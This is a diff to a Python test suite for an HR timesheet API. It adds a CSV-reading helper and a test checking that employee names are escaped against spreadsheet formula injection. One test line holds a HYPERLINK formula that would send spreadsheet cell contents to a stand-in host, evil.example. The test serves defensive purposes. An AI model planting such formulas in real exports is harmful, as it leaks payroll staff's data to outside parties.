@@ -11,7 +11,9 @@ from typing import Any
 
 import httpx
 import pytest
+from sqlalchemy import update
 
+from domain.people.models import Employee
 from domain.shared.clock import ManualClock
 from domain.shared.db import Database
 from tests.factories import World, assign
@@ -486,6 +488,11 @@ async def timesheet(client: httpx.AsyncClient, world: World, who: str, **params:
     )
 
 
+def read_csv(answer: httpx.Response) -> list[list[str]]:
+    """The rows of a CSV download, as a spreadsheet reads it (UTF-8, its byte order mark dropped)."""
+    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
+
+
 async def test_hr_gets_one_row_per_person_day_and_store(client: httpx.AsyncClient, world: World, clock: ManualClock):
     await work_a_fortnight(client, world, clock)
     answer = await timesheet(client, world, "hr")
@@ -511,7 +518,7 @@ async def test_the_timesheet_as_csv_is_a_download_with_a_header_row(
     assert answer.status_code == 200, answer.text
     assert answer.headers["content-type"].startswith("text/csv")
     assert answer.headers["content-disposition"] == 'attachment; filename="timesheet-2026-03-01-2026-03-31.csv"'
-    header, *rows = list(csv.reader(io.StringIO(answer.text)))
+    header, *rows = read_csv(answer)
     assert header == TIMESHEET_COLUMNS
     assert rows == [
         ["E0102", "Staff S1", "S1", "2026-03-02", "2026-03-02T01:00:00+00:00", "2026-03-02T09:00:00+00:00", "480", ""],
@@ -529,9 +536,29 @@ async def test_the_timesheet_as_csv_is_a_download_with_a_header_row(
     ]
 
 
+async def test_a_name_a_spreadsheet_would_run_is_neutralised_in_the_timesheet_csv(
+    client: httpx.AsyncClient, world: World, clock: ManualClock, database: Database
+):
+    """The timesheet CSV goes to payroll clerks' spreadsheets: a name such as `=HYPERLINK(...)` must
+    arrive as text (leading apostrophe), as the pool payroll CSV already does; UTF-8 with a BOM so
+    Chinese names show as written."""
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    async with database.session_scope() as session:
+        for who, name in (("staff_s1", hostile), ("staff_s3", "张伟")):
+            await session.execute(update(Employee).where(Employee.id == world.employees[who]).values(full_name=name))
+    await work_a_fortnight(client, world, clock)
+    answer = await timesheet(client, world, "hr", format="csv")
+    assert answer.status_code == 200, answer.text
+    assert answer.content.startswith(b"\xef\xbb\xbf")
+    header, *rows = read_csv(answer)
+    assert header == TIMESHEET_COLUMNS
+    assert {row[1] for row in rows} == {"'" + hostile, "张伟"}
+    assert (await timesheet(client, world, "hr")).json()["rows"][0]["full_name"] == hostile  # JSON is data, not a sheet
+
+
 async def test_an_empty_period_is_a_header_row_only(client: httpx.AsyncClient, world: World):
     answer = await timesheet(client, world, "hr", format="csv")
-    assert list(csv.reader(io.StringIO(answer.text))) == [TIMESHEET_COLUMNS]
+    assert read_csv(answer) == [TIMESHEET_COLUMNS]
     assert (await timesheet(client, world, "hr")).json()["rows"] == []
 
 
